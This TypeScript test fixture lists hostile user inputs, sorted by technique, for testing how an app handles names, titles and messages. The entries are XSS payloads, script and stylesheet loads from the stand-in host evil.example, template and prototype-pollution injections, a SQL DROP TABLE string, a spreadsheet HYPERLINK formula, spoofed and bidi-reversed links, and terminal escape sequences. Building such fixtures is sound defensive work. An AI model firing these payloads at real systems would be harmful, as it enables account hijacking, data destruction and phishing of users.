/**
 * What people may write to harm those who read it: as names, titles, messages and search words.
 * Each says what it tries. A script that runs sets `__pwned` or opens a dialog; what is fetched
 * comes from `evil.example`.
 */

/** One of them. */
export interface Hostile {
  tries: string;
  text: string;
}

const of = (tries: string, ...texts: string[]): Hostile[] => texts.map((text) => ({ tries, text }));

const RUN = '__pwned=1';

export const HOSTILE: readonly Hostile[] = [
  ...of(
    'script elements',
    `<script>${RUN}</script>`,
    `</script><script>${RUN}</script>`,
    `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<script type=module>import('//evil.example/m.js')</script>`,
    `</title></textarea></style></noscript><script>${RUN}</script>`,
    `<!--><script>${RUN}</script-->`,
    `<![CDATA[<script>${RUN}</script>]]>`,
    `<noscript><p title="</noscript><script>${RUN}</script>">`,
  ),
  ...of(
    'handlers in attributes',
    `<img src=x onerror=${RUN}>`,
    `<img src="x" onerror="alert(1)">`,
    `"><img src=x onerror=${RUN}>`,
    `' onmouseover='${RUN}' x='`,
    `" autofocus onfocus="${RUN}`,
    `<body onload=${RUN}>`,
    `<details open ontoggle=${RUN}>x</details>`,
    `<video><source onerror=${RUN}></video>`,
    `<input autofocus onfocus=${RUN}>`,
    `<marquee onstart=${RUN}>x</marquee>`,
    '`onmouseover=__pwned=1`',
  ),
  ...of(
    'links that run',
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}`,
    `java\u00adscript:${RUN}`,
    `https://x.example/" onclick="${RUN}`,
    `<a href="javascript:${RUN}">x</a>`,
    `[x](javascript:${RUN})`,
    `javascript://example.org/%0a${RUN}`,
    `data:text/html,<script>${RUN}</script>`,
    `data:text/html;base64,PHNjcmlwdD5fX3B3bmVkPTE8L3NjcmlwdD4=`,
    `vbscript:msgbox(1)`,
    `blob:https://evil.example/0b1c`,
    `file:///etc/passwd`,
    `view-source:https://evil.example/`,
    `mailto:a@evil.example?body=</a><script>${RUN}</script>`,
  ),
  ...of(
    'SVG and MathML',
    `<svg onload=${RUN}>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<svg><use href="//evil.example/x.svg#x"/></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
    `<math href="javascript:${RUN}">x</math>`,
  ),
  ...of(
    'other documents and elements',
    `<iframe src="javascript:parent.${RUN}"></iframe>`,
    `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
    `<object data="//evil.example/x.swf"></object>`,
    `<embed src="//evil.example/x.swf">`,
    `<base href="//evil.example/">`,
    `<meta http-equiv=refresh content="0;url=//evil.example">`,
    `<link rel=stylesheet href=//evil.example/x.css>`,
    `<form action=//evil.example><button>x</button></form>`,
    `<template shadowrootmode=open><script>${RUN}</script></template>`,
    `<a id=zvon name=root>clobbered</a>`,
  ),
  ...of(
    'styles',
    `<style>*{background:url(//evil.example/css)}</style>`,
    `</style><style>@import '//evil.example/x.css';</style>`,
    `<p style="background:url(//evil.example/bg)">x</p>`,
    `red;background:url(//evil.example/css)`,
    `expression(alert(1))`,
  ),
  ...of(
    'templates and objects',
    '{{constructor.constructor("__pwned=1")()}}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what it tries.
    '${__pwned=1}',
    '#{__pwned=1} <%= __pwned=1 %>',
    '{name} {count} $& $1 %s %n',
    '__proto__',
    'constructor',
    'toString',
    '{"__proto__":{"isAdmin":true}}',
  ),
  ...of(
    'entities and encodings',
    `&lt;script&gt;${RUN}&lt;/script&gt;`,
    '&#60;img src=x onerror=alert(1)&#62;',
    '&amp;amp; &nbsp; &#x202e; &notit;',
    '%3Cscript%3E__pwned%3D1%3C%2Fscript%3E',
    '\\u003cscript\\u003e__pwned=1\\x3c/script\\x3e',
    '+ADw-script+AD4-__pwned=1+ADw-/script+AD4-',
    `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  ),
  ...of(
    'directions and what is not seen',
    'invoice\u202efdp.exe',
    '\u2067\u202eadmin\u2069 \u2069\u202ereversed',
    '\u200b\u200bzero\u200b\u200dwidth\u2060\ufeff.',
    'e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c marks',
    'soft\u00adhyphen\u2028line\u2029paragraph.',
    '\u05e9\u05dc\u05d5\u05dd <b>\u0645\u0631\u062d\u0628\u0627</b>',
    'tag\u{e0041}\u{e007f}\u{10ffff}.',
  ),
  ...of(
    'links that are not what they seem',
    'https://zvon.example@evil.example/chats',
    'https://user:secret@evil.example/',
    'https://p\u0430ypal.example/',
    'https://evil.example/\u202efdp.exe',
    'https:////evil.example//..',
    'http://[::1]:4000/auth/logout',
    'https://evil.example/?x=<script>alert(1)</script>',
  ),
  ...of(
    'length',
    'W'.repeat(100),
    '\ufdfd'.repeat(40),
    '\u{1f469}\u200d\u{1f469}\u200d\u{1f467}'.repeat(12),
    `${'<b>'.repeat(20)}${'&'.repeat(30)}`,
  ),
  ...of(
    'terminals, sheets and letters',
    '\u001b[31mred\u001b[0m \u0007 \u001b]8;;https://evil.example\u0007x',
    'a\rb\bc\fd\u000be \u0001\u007f\u0085',
    '=HYPERLINK("https://evil.example","x")',
    "'; DROP TABLE users; --",
    `From: admin@zvon.example\r\nSubject: <script>${RUN}</script>\r\n\r\n<img src=cid:x>`,
    `"Ann <script>${RUN}</script>" <ann@zvon.example>`,
  ),
  ...of(
    'a long text',
    `${`<img src=x onerror=${RUN}> `.repeat(500)}the end`,
    Array.from({ length: 200 }, (_, line) => `${line}: <script>${RUN}</script>`).join('\n'),
  ),
];

/** Those that the server takes as a name or a title: one line of at most a hundred characters. */
export const NAMES: readonly Hostile[] = HOSTILE.filter(
  ({ text }) => [...text].length <= 100 && !/\p{Cc}/u.test(text) && text.trim() === text,
);
